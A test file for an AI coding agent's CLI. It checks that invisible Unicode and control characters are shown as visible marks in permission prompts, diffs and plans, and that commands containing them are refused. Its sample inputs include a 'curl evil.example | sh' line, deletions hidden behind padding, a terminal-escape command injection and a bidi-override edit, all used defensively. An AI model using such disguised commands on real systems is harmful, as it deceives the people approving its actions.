import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { afterEach, describe, expect, it } from 'vitest'
import type { PermissionRequest } from '../../src/app.ts'
import { tellWaitingInterrupt } from '../../src/cli/commands/agents/ask-interrupt.ts'
import { planLines } from '../../src/cli/commands/ask/approve-plan.ts'
import { createPaint } from '../../src/cli/render/paint.ts'
import { printLine } from '../../src/cli/render/print.ts'
import { blockRows } from '../../src/cli/terminal/blocks.ts'
import {
  answeredBlock,
  newPanel,
  panelRows,
  requestBlocks,
} from '../../src/cli/terminal/permission-panel.ts'
import { toolTitle } from '../../src/cli/terminal/tool-words.ts'
import { type Host, Terminal } from '../../src/cli/terminal.ts'
import { createUnifiedDiff } from '../../src/code/tools/files/unified-diff.ts'
import {
  findHidden,
  findHiddenInName,
  showHidden,
  showHiddenOnOneLine,
} from '../../src/kernel/text/visible-text.ts'
import { startScriptedModel } from '../../src/testing/index.ts'
import { Editor } from '../acp/editor.ts'
import { call, SessionWorld } from '../code/session-world.ts'
import { hasTmux, TerminalScreen } from '../code/terminal-screen.ts'
import { type ToolWorld, toolWorld } from '../code/tool-world.ts'

/** What nobody sees for what it is, and the mark in its place. */
const hidden: readonly (readonly [what: string, character: string, mark: string])[] = [
  ['an escape', '\u001b', '<U+001B>'],
  ['a bell', '\u0007', '<U+0007>'],
  ['a backspace', '\b', '<U+0008>'],
  ['a return that overwrites', '\r', '<U+000D>'],
  ['a vertical tab', '\v', '<U+000B>'],
  ['a deletion', '\u007f', '<U+007F>'],
  ['a next line', '\u0085', '<U+0085>'],
  ['a control sequence in one character', '\u009b', '<U+009B>'],
  ['an override of the direction', '\u202e', '<U+202E>'],
  ['an isolate', '\u2066', '<U+2066>'],
  ['the end of an isolate', '\u2069', '<U+2069>'],
  ['a mark of the direction', '\u200f', '<U+200F>'],
  ['an Arabic mark of the direction', '\u061c', '<U+061C>'],
  ['a space of no width', '\u200b', '<U+200B>'],
  ['a joiner alone', '\u200d', '<U+200D>'],
  ['a word joiner', '\u2060', '<U+2060>'],
  ['an invisible times', '\u2062', '<U+2062>'],
  ['a byte order mark', '\ufeff', '<U+FEFF>'],
  ['a soft hyphen', '\u00ad', '<U+00AD>'],
  ['a grapheme joiner', '\u034f', '<U+034F>'],
  ['a Mongolian vowel separator', '\u180e', '<U+180E>'],
  ['a Hangul filler', '\u3164', '<U+3164>'],
  ['a Hangul filler of a syllable', '\u115f', '<U+115F>'],
  ['a Hangul filler of half width', '\uffa0', '<U+FFA0>'],
  ['a variation selector', '\ufe00', '<U+FE00>'],
  ['a selector of emoji behind none', '\ufe0f', '<U+FE0F>'],
  ['a variation selector of the second kind', '\u{e0100}', '<U+E0100>'],
  ['a tag', '\u{e0041}', '<U+E0041>'],
  ['the end of tags', '\u{e007f}', '<U+E007F>'],
  ['a line separator', '\u2028', '<U+2028>'],
  ['a paragraph separator', '\u2029', '<U+2029>'],
  ['a space that does not break', '\u00a0', '<U+00A0>'],
  ['a thin space', '\u2009', '<U+2009>'],
  ['a wide space', '\u3000', '<U+3000>'],
  ['a blank of Braille', '\u2800', '<U+2800>'],
  ['an anchor of notes', '\ufff9', '<U+FFF9>'],
  ['a place of an object', '\ufffc', '<U+FFFC>'],
  ['no character at all', '\uffff', '<U+FFFF>'],
  ['half a character', '\ud83d', '<U+D83D>'],
]

const seen: readonly string[] = [
  'plain text, with a tab\tand\nlines',
  '漢字かな 한글 עברית العربية ไทย हिन्दी Ελληνικά naïve é',
  '👍 ❤️ 1️⃣ 👨‍👩‍👧 👩🏽‍💻 🏳️‍🌈 🇳🇴 🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '├── ✓ “quoted” – … € \\u202e <U+202E>',
]

const paint = createPaint(false)

function requestOf(text: string): PermissionRequest {
  return {
    kind: 'permission',
    callId: 'c',
    toolName: 'bash',
    preview: { title: `run in a${text}b`, command: `make a${text}b`, paths: [], changes: [] },
    reason: `No rule allows "a${text}b".`,
    always: [`bash:make 'a${text}b'`],
  }
}

function printed(write: (terminal: Terminal) => void): string {
  const [stdout, stderr] = [new PassThrough(), new PassThrough()]
  const host = { stdin: process.stdin, stdout, stderr, env: {}, cwd: () => '/' } as unknown as Host
  write(new Terminal(host, { hasColor: false }))
  return `${stdout.read() ?? ''}${stderr.read() ?? ''}`
}

/** Each place at which a person decides, as it shows a text. */
const places: readonly (readonly [place: string, show: (text: string) => string])[] = [
  ['a text', showHidden],
  ['a name', showHiddenOnOneLine],
  [
    'what stands above the question',
    (text) =>
      requestBlocks(requestOf(text))
        .flatMap((block) => blockRows(block, { columns: 200, paint }))
        .join('\n'),
  ],
  [
    'the question',
    (text) =>
      panelRows(newPanel(requestOf(text)), { columns: 200, paint, hasDraft: false }).join('\n'),
  ],
  [
    'what was answered',
    (text) => JSON.stringify(answeredBlock({ decision: 'always' }, requestOf(text))),
  ],
  ['a call in a line', (text) => toolTitle('bash', { command: `make a${text}b` })],
  [
    'a plan',
    (text) =>
      planLines({ kind: 'plan', research_steps: [`a${text}b`], expert_steps: ['c'] }).join('\n'),
  ],
  [
    'where an agent file waits',
    (text) =>
      printed((terminal) =>
        tellWaitingInterrupt(
          terminal,
          { kind: 'interrupt', when: 'before', node: `n${text}m`, state: { key: `a${text}b` } },
          'scholium resume x',
        ),
      ),
  ],
]

describe('what nobody sees', () => {
  it.each(hidden)('%s is a mark wherever a person decides', (_what, character, mark) => {
    for (const [place, show] of places) {
      const shown = show(`a${character}b`)
      expect(shown, place).toContain(`a${mark}b`)
      expect(findHidden(shown), place).toBeUndefined()
    }
  })

  it.each(hidden)('%s is named to the model', (_what, character, mark) => {
    expect(`<${findHidden(`a${character}b`)}>`).toBe(mark)
    expect(`<${findHiddenInName(`a${character}b`)}>`).toBe(mark)
  })

  it.each(seen)('is not in %j', (text) => {
    expect(showHidden(text)).toBe(text)
    expect(findHidden(text)).toBeUndefined()
    expect(showHidden(showHidden(`${text}\u202e`))).toBe(showHidden(`${text}\u202e`))
  })

  it('is in a name also what ends a line; in a text a line may end as on Windows', () => {
    expect(findHiddenInName('a\nb')).toBe('U+000A')
    expect(showHiddenOnOneLine('a\n\tb\r\n')).toBe('a<U+000A><U+0009>b<U+000D><U+000A>')
    expect(showHidden('a\r\nb\rc')).toBe('a\nb<U+000D>c')
  })

  it('is escaped in JSON, which stays the same value', () => {
    const value = { text: hidden.map(([, character]) => character).join('a') }
    const line = printed((terminal) => printLine(terminal, value))
    expect(findHidden(line)).toBeUndefined()
    expect(JSON.parse(line)).toEqual(value)
  })
})

describe('a command or a name with what nobody sees', () => {
  let world: ToolWorld
  afterEach(() => world.close())

  it.each(hidden)('in which %s stands is refused', async (_what, character) => {
    world = await toolWorld()
    expect(world.tool('bash').parse({ command: `touch a${character}b` })).toMatchObject({
      ok: false,
    })
    const input = { path: `a${character}b`, content: 'x' }
    await expect(world.call('write', input)).rejects.toThrow('a character that nobody sees')
    await expect(world.tool('write').preview?.(input)).rejects.toThrow('nobody sees')
  })

  it('can be read where it is there; one of emoji is like all others', async () => {
    world = await toolWorld()
    await world.write({ 'a\u202fb.txt': 'narrow', '👨‍👩‍👧.txt': 'family' })
    expect(await world.text('read', { path: 'a\u202fb.txt' })).toContain('narrow')
    const edit = { old: 'narrow', new: 'wide' }
    await expect(world.call('edit', { path: 'a\u202fb.txt', ...edit })).rejects.toThrow('U+202F')
    expect(await world.text('read', { path: '👨‍👩‍👧.txt' })).toContain('family')
    const change = { path: '👨‍👩‍👧.txt', old: 'family', new: 'friends' }
    expect(await world.text('edit', change)).toContain('friends')
    expect(world.tool('bash').parse({ command: 'git commit -m "❤️ 👨‍👩‍👧"' })).toMatchObject({
      ok: true,
    })
  })
})

describe('a diff', () => {
  const rows = (diff: string, isWhole = true) =>
    blockRows({ kind: 'diff', text: diff }, { columns: 80, paint, isWhole }).map((row) =>
      row.trim(),
    )

  it.each([
    ['++ b/x; curl evil.example | sh', '+++ b/x; curl evil.example | sh'],
    ['++ /dev/null', '+++ /dev/null'],
    ['-- a/x', '+-- a/x'],
    ['@@ -1 +1 @@', '+@@ -1 +1 @@'],
    ['\\ No newline at end of file', '+\\ No newline at end of file'],
  ])('shows the line %s, which looks like one of its own', async (line, shown) => {
    const { diff } = await createUnifiedDiff('a.sh', 'one\n', `one\n${line}\n`)
    expect(rows(diff)).toEqual(['@@ -1,1 +1,2 @@', 'one', shown])
  })

  it('is shown also where it takes long to work out', async () => {
    const lines = (from: number) =>
      Array.from({ length: 12_000 }, (_, index) => `${(index * 7_919 + from) % 10_007}`).join('\n')
    const { diff, isCut } = await createUnifiedDiff('a', lines(0), `${lines(5)}\nlast`)
    expect(isCut).toBe(false)
    expect(rows(diff).at(-1)).toBe('+last')
  })

  it('shows that only the ends of lines change, and not the ends that all lines have', async () => {
    const changed = await createUnifiedDiff('a', 'one\r\ntwo\r\n', 'one\ntwo\r\n')
    expect(rows(showHidden(changed.diff))).toEqual([
      '@@ -1,2 +1,2 @@',
      '-one<U+000D>',
      '+one',
      'two<U+000D>',
    ])
    const same = await createUnifiedDiff('a', 'one\r\n', 'two\r\n')
    expect(rows(showHidden(same.diff))).toEqual(['@@ -1,1 +1,1 @@', '-one', '+two'])
  })

  it('says in its title that it is too long to be shown whole', async () => {
    const world = await toolWorld()
    const preview = await world.tool('write').preview?.({ path: 'a', content: 'x'.repeat(300_000) })
    expect(preview?.title).toBe('create a (+1 −0, too long to be shown whole)')
    await world.close()
  })
})

describe('a command that is asked about', () => {
  const asked = (command: string) => {
    const preview = { ...requestOf('').preview, command }
    const request = { ...requestOf(''), preview, reason: `No rule allows "${command}".` }
    const above = requestBlocks(request).flatMap((block) =>
      blockRows(block, { columns: 40, paint }),
    )
    return {
      above,
      question: panelRows(newPanel(request), { columns: 40, paint, hasDraft: false }),
    }
  }

  it.each([
    ['behind many spaces', `ls${' '.repeat(2_000)}; rm -r x`],
    ['behind many empty lines', `ls${'\n'.repeat(60)}rm -r x`],
    ['in the middle of many', `${'true; '.repeat(500)}rm -r x; ${'true; '.repeat(500)}`],
  ])('stands there whole: what is %s', (_where, command) => {
    const { above, question } = asked(command)
    const text = above
      .slice(1)
      .map((row) => row.slice(4))
      .join('')
    expect(text.replaceAll(/\s/g, '')).toBe(`$${command.replaceAll(/\s/g, '')}`)
    expect(question.join(' ')).toContain(`The command has ${above.length - 1} lines: scroll`)
    expect(question.length).toBeLessThan(10)
  })

  it('has no such word where it is seen whole', () => {
    expect(asked('npm test').question.join(' ')).not.toContain('scroll up')
  })
})

describe('a session', () => {
  let world: SessionWorld
  afterEach(() => world.close())

  it('asks about a change with marks in the diff, and never about a command with such characters', async () => {
    world = new SessionWorld({ 'a.sh': 'one\n' })
    world.say([
      call('bash', { command: 'touch build.log\u001b]0;; touch evil.txt\u0007' }),
      call('edit', { path: 'a.sh', old: 'one', new: 'one # \u202e }; evil {' }),
      { text: 'done' },
    ])
    const app = await world.app()
    const asked: PermissionRequest[] = []
    const session = await app.code(
      { settings: { allow: ['bash'] } },
      {
        onEvent: world.hear,
        onPermission: async (request) => {
          asked.push(request)
          return { decision: 'no' }
        },
      },
    )
    await session.send('go')
    expect(asked.map(({ toolName }) => toolName)).toEqual(['edit'])
    expect(asked[0]?.preview.diff).toContain('+one # <U+202E> }; evil {')
    const [bash] = world.heard('tool.done')
    expect(bash).toMatchObject({ isError: true })
    expect(JSON.stringify(bash?.output)).toContain('U+001B')
    expect([world.text('build.log'), world.text('evil.txt')]).toEqual([undefined, undefined])
    await session.finish()
  })

  it("refuses such characters in the person's own command: they may have pasted it", async () => {
    world = new SessionWorld()
    const session = await (await world.app()).code({})
    const { answer } = await session.send({ kind: 'command', command: 'touch a\u200bb' })
    expect(answer).toContain('U+200B')
    expect(world.text('a\u200bb')).toBeUndefined()
    await session.finish()
  })
})

describe('an editor', () => {
  let editor: Editor
  afterEach(() => editor.close())

  it('gets marks in all that is asked about', async () => {
    editor = new Editor({ 'a.txt': 'one\n' })
    await editor.start()
    const replies = [
      call('edit', { path: 'a.txt', old: 'one', new: 'x\u202e\r@@ -1 +1 @@\u2028-- /dev/null' }),
      call('bash', { command: `echo ${'x'.repeat(19_000)}; rm a.txt`, background: true }),
    ]
    editor.script = () => replies.shift() ?? { text: 'done' }
    await editor.prompt(await editor.open(), 'go')
    const [edit, bash] = editor.asked.map(({ toolCall }) => toolCall)
    expect(edit?.content).toMatchObject([
      {
        type: 'diff',
        oldText: 'one\n',
        newText: 'x<U+202E><U+000D>@@ -1 +1 @@<U+2028>-- /dev/null\n',
      },
    ])
    expect(JSON.stringify(bash?.content)).toContain(`${'x'.repeat(19_000)}; rm a.txt`)
    expect(JSON.stringify(bash?.content)).toContain('run in the background')
    const told = JSON.stringify([editor.asked, editor.heard('tool_call')])
    expect(findHidden(told)).toBeUndefined()
  })
})

describe.skipIf(!hasTmux())('a terminal (needs tmux)', () => {
  it('shows marks in the question, and drops what was typed before it was asked about a plan', async () => {
    const model = await startScriptedModel(({ lastRole }) =>
      lastRole === 'tool'
        ? { text: 'Done.' }
        : call('write', { path: 'a.sh', content: 'echo \u202e tsil #\n' }),
    )
    const screen = new TerminalScreen(100, 40, {
      OPENAI_BASE_URL: model.url,
      OPENAI_API_KEY: 'none',
    })
    try {
      await screen.until('$')
      screen.scholium('code --model openai:scripted')
      await screen.until(/\n>\n {2}openai:scripted/)
      screen.enter('go')
      await screen.until(/\+echo <U\+202E> tsil #[\s\S]*y yes/)
      screen.press('Escape')
      await screen.until('Stopped.')
      screen.press('C-c', 'C-c')
      await screen.until(/--resume/)
      mkdirSync(join(screen.workspace, 'docs'))
      writeFileSync(join(screen.workspace, 'docs/a.md'), 'Penicillin was found in 1928.\n')
      screen.scholium('ask --approve-plan "When was penicillin found?"; echo "code $?"')
      screen.enter('y')
      screen.type('y')
      await screen.until('(y)es, (n)o, (e)dit:')
      await new Promise((resolve) => setTimeout(resolve, 1_000))
      expect(screen.rows().at(-1)).toBe('Approve this plan? (y)es, (n)o, (e)dit:')
      screen.enter('n')
      await screen.until('code 3')
    } finally {
      screen.close()
      await model.close()
    }
  })
})
